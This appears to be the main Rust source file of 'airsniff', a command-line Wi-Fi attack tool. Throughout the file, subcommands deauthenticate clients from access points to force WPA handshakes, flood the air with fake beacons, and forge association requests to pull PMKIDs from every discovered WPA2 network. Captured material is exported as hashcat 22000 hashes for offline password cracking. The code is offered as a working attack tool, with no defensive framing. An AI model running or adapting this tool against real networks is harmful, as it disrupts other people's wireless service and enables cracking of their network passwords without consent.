use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use clap::{ArgAction, Parser, Subcommand};
use crossbeam_channel::Receiver;
use tokio::time::{self, Instant};
use tracing::{error, info, warn};
use tracing_subscriber::EnvFilter;

use airsniff::capture::{self, PcapRadio, RadioState};
use airsniff::config::default_flood_ssids;
use airsniff::{
    rx_queue, AttackOutcome, Clock, Config, Engine, EngineEvent, MacAddr, MonotonicClock, Radio,
    RxFrame,
};

#[derive(Parser)]
#[command(name = "airsniff", version, about = "802.11 handshake and PMKID capture")]
struct Cli {
    /// Monitor-mode interface (overrides AIRSNIFF_INTERFACE)
    #[arg(short, long)]
    interface: Option<String>,

    /// Starting channel
    #[arg(short, long)]
    channel: Option<u8>,

    /// Raise log verbosity (-v debug, -vv trace)
    #[arg(short, long, action = ArgAction::Count)]
    verbose: u8,

    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Passive capture of devices, handshakes and PMKIDs
    Monitor {
        #[arg(long)]
        hop: bool,
        /// Stop after this many seconds
        #[arg(long)]
        duration: Option<u64>,
        /// Write hashcat 22000 lines here
        #[arg(short, long)]
        output: Option<PathBuf>,
        /// Print the final summary as JSON
        #[arg(long)]
        json: bool,
    },
    /// Deauthenticate a client (or every client) to provoke a handshake
    Deauth {
        #[arg(long)]
        ap: MacAddr,
        #[arg(long)]
        client: Option<MacAddr>,
        #[arg(long, default_value_t = 5)]
        count: u32,
        /// Seconds to listen for the handshake afterwards
        #[arg(long, default_value_t = 15)]
        listen: u64,
        #[arg(short, long)]
        output: Option<PathBuf>,
    },
    /// Broadcast beacons for a list of SSIDs
    BeaconFlood {
        #[arg(long = "ssid")]
        ssids: Vec<String>,
        #[arg(long)]
        duration: Option<u64>,
    },
    /// Clientless PMKID capture via forged association requests
    Pmkid {
        /// Target a single AP instead of every discovered WPA2 AP
        #[arg(long)]
        ap: Option<MacAddr>,
        #[arg(long)]
        ssid: Option<String>,
        /// Seconds spent discovering APs before attacking
        #[arg(long, default_value_t = 10)]
        scan: u64,
        /// Seconds to wait for M1 after each request
        #[arg(long, default_value_t = 2)]
        duration: u64,
        #[arg(short, long)]
        output: Option<PathBuf>,
    },
}

/// Knobs for one run of the processing loop.
struct LoopOptions {
    hop: Option<Duration>,
    deadline: Option<Instant>,
}

#[tokio::main]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let cli = Cli::parse();
    init_tracing(cli.verbose);

    let mut config = Config::from_env()?;
    if let Some(iface) = cli.interface {
        config.interface = Some(iface);
    }
    if let Some(channel) = cli.channel {
        config.channel = channel;
    }
    let interface = config
        .interface
        .clone()
        .ok_or("no interface given (use -i or AIRSNIFF_INTERFACE)")?;

    let running = Arc::new(AtomicBool::new(true));
    let r = running.clone();
    ctrlc::set_handler(move || {
        r.store(false, Ordering::SeqCst);
    })?;

    let state = RadioState::new(config.channel);
    let (tx, rx) = rx_queue(config.queue_capacity);
    let counters = tx.counters();

    let capture_thread = {
        let interface = interface.clone();
        let state = state.clone();
        let running = running.clone();
        thread::spawn(move || {
            if let Err(e) = capture::start_sniffing(&interface, tx, state, running.clone()) {
                error!("Packet capture error: {}", e);
                running.store(false, Ordering::SeqCst);
            }
        })
    };

    let radio = PcapRadio::open(&interface, state)?;
    let clock: Arc<dyn Clock> = Arc::new(MonotonicClock::new());
    let mut engine = Engine::new(radio, config.attack.clone(), clock).with_rx_counters(counters);
    engine.set_channel(config.channel)?;
    info!("Listening on {} channel {}", interface, config.channel);

    let result = run_command(cli.command, &mut engine, &rx, &running, &config).await;

    running.store(false, Ordering::SeqCst);
    if capture_thread.join().is_err() {
        warn!("Capture thread panicked");
    }
    result
}

fn init_tracing(verbose: u8) {
    let level = match verbose {
        0 => "info",
        1 => "debug",
        _ => "trace",
    };
    let filter = EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(level));
    tracing_subscriber::fmt().with_env_filter(filter).with_target(false).init();
}

async fn run_command<R: Radio>(
    command: Commands,
    engine: &mut Engine<R>,
    rx: &Receiver<RxFrame>,
    running: &AtomicBool,
    config: &Config,
) -> Result<(), Box<dyn std::error::Error>> {
    let hop_every = Duration::from_millis(config.hop_interval_ms);

    match command {
        Commands::Monitor {
            hop,
            duration,
            output,
            json,
        } => {
            let opts = LoopOptions {
                hop: (hop || config.channel_hop).then_some(hop_every),
                deadline: deadline_after(duration),
            };
            process_events(engine, rx, running, &opts).await;
            write_exports(engine, output.or_else(|| config.output.clone())).await?;
            if json {
                println!("{}", serde_json::to_string_pretty(&engine.summary())?);
            } else {
                print_summary(engine);
            }
        }
        Commands::Deauth {
            ap,
            client,
            count,
            listen,
            output,
        } => {
            let mut sent = 0;
            while sent < count && running.load(Ordering::SeqCst) {
                let outcome = match client {
                    Some(client) => engine.send_deauth_unicast(client, ap)?,
                    None => engine.send_deauth_broadcast(ap)?,
                };
                match outcome {
                    AttackOutcome::Sent { .. } => {
                        sent += 1;
                        time::sleep(Duration::from_millis(config.attack.deauth_cooldown_ms)).await;
                    }
                    AttackOutcome::Throttled { retry_in } => time::sleep(retry_in).await,
                }
                for event in engine.drain(rx) {
                    report(engine, &event);
                }
            }
            info!("Deauth burst done, listening {} s for the handshake", listen);

            let opts = LoopOptions {
                hop: None,
                deadline: deadline_after(Some(listen)),
            };
            process_events(engine, rx, running, &opts).await;
            write_exports(engine, output.or_else(|| config.output.clone())).await?;
            print_summary(engine);
        }
        Commands::BeaconFlood { ssids, duration } => {
            let ssids = if ssids.is_empty() {
                default_flood_ssids()
            } else {
                ssids
            };
            let channel = engine.channel();
            engine.start_beacon_flood(channel, ssids)?;
            let opts = LoopOptions {
                hop: None,
                deadline: deadline_after(duration),
            };
            process_events(engine, rx, running, &opts).await;
            if let Some(summary) = engine.stop_beacon_flood()? {
                println!("{}", serde_json::to_string_pretty(&summary)?);
            }
        }
        Commands::Pmkid {
            ap,
            ssid,
            scan,
            duration,
            output,
        } => {
            let targets: Vec<(MacAddr, Option<u8>)> = match ap {
                Some(ap) => vec![(ap, None)],
                None => {
                    info!("Scanning {} s for WPA2 access points", scan);
                    let opts = LoopOptions {
                        hop: Some(hop_every),
                        deadline: deadline_after(Some(scan)),
                    };
                    process_events(engine, rx, running, &opts).await;
                    engine
                        .clientless_targets()
                        .into_iter()
                        .map(|d| (d.mac, d.operating_channel()))
                        .collect()
                }
            };
            info!("{} PMKID targets", targets.len());

            for (target, channel) in targets {
                if !running.load(Ordering::SeqCst) {
                    break;
                }
                if let Some(channel) = channel {
                    engine.set_channel(channel)?;
                }
                let ssid = ssid.clone().unwrap_or_default();
                loop {
                    match engine.send_association_request(target, &ssid)? {
                        AttackOutcome::Sent { .. } => break,
                        AttackOutcome::Throttled { retry_in } => time::sleep(retry_in).await,
                    }
                }
                let opts = LoopOptions {
                    hop: None,
                    deadline: deadline_after(Some(duration)),
                };
                process_events(engine, rx, running, &opts).await;
            }
            write_exports(engine, output.or_else(|| config.output.clone())).await?;
            print_summary(engine);
        }
    }
    Ok(())
}

fn deadline_after(seconds: Option<u64>) -> Option<Instant> {
    seconds.map(|s| Instant::now() + Duration::from_secs(s))
}

async fn sleep_until(deadline: Option<Instant>) {
    match deadline {
        Some(deadline) => time::sleep_until(deadline).await,
        None => std::future::pending().await,
    }
}

/// Drains the receive queue, drives the flood and channel hopping, and logs
/// status until Ctrl-C or the deadline.
async fn process_events<R: Radio>(
    engine: &mut Engine<R>,
    rx: &Receiver<RxFrame>,
    running: &AtomicBool,
    opts: &LoopOptions,
) {
    let mut drain = time::interval(Duration::from_millis(10));
    let mut flood = time::interval(Duration::from_millis(1));
    let mut hop = time::interval(opts.hop.unwrap_or(Duration::from_secs(3600)));
    let mut status = time::interval(Duration::from_secs(10));
    drain.set_missed_tick_behavior(time::MissedTickBehavior::Skip);
    flood.set_missed_tick_behavior(time::MissedTickBehavior::Skip);
    hop.tick().await;
    status.tick().await;

    while running.load(Ordering::SeqCst) {
        tokio::select! {
            _ = drain.tick() => {
                for event in engine.drain(rx) {
                    report(engine, &event);
                }
            }
            _ = flood.tick(), if engine.beacon_flood_active() => {
                if let Err(e) = engine.tick() {
                    warn!("Beacon send failed: {}", e);
                }
            }
            _ = hop.tick(), if opts.hop.is_some() => {
                if let Err(e) = engine.hop_channel() {
                    warn!("Channel hop failed: {}", e);
                }
            }
            _ = status.tick() => {
                let stats = engine.stats();
                info!(
                    "ch {} | {} frames ({} beacons, {} data, {} EAPOL, {} dropped) | {} devices",
                    engine.channel(),
                    stats.total,
                    stats.beacons,
                    stats.data,
                    stats.eapol,
                    stats.queue_dropped,
                    engine.devices().len()
                );
            }
            _ = sleep_until(opts.deadline) => break,
        }
    }
    for event in engine.drain(rx) {
        report(engine, &event);
    }
}

fn report<R: Radio>(engine: &Engine<R>, event: &EngineEvent) {
    match event {
        EngineEvent::HandshakeComplete(id) => match engine.export_handshake(*id) {
            Ok(line) => info!("{}", line),
            Err(e) => warn!("{}", e),
        },
        EngineEvent::PmkidCaptured(id) => {
            if let Ok(line) = engine.export_pmkid(*id) {
                info!("{}", line);
            }
        }
        _ => {}
    }
}

async fn write_exports<R: Radio>(
    engine: &Engine<R>,
    output: Option<PathBuf>,
) -> Result<(), Box<dyn std::error::Error>> {
    let Some(path) = output else {
        return Ok(());
    };
    let lines = engine.export_all();
    if lines.is_empty() {
        info!("Nothing to export");
        return Ok(());
    }
    let mut text = lines.join("\n");
    text.push('\n');
    tokio::fs::write(&path, text).await?;
    info!("Wrote {} hashes to {}", lines.len(), path.display());
    Ok(())
}

fn print_summary<R: Radio>(engine: &Engine<R>) {
    let stats = engine.stats();
    println!(
        "{} frames, {} devices, {} handshakes, {} PMKIDs",
        stats.total,
        engine.devices().len(),
        engine.handshakes().iter().filter(|h| h.is_complete()).count(),
        engine.pmkids().len()
    );
    for hs in engine.handshakes().iter().filter(|h| h.is_complete()) {
        println!(
            "  {} {} <-> {} {:?} {}",
            hs.id, hs.ap, hs.client, hs.state(), hs.ssid
        );
    }
    for pmkid in engine.pmkids() {
        println!(
            "  {} {} <- {} {}{}",
            pmkid.id,
            pmkid.ap,
            pmkid.station,
            pmkid.ssid,
            if pmkid.clientless { " (clientless)" } else { "" }
        );
    }
}
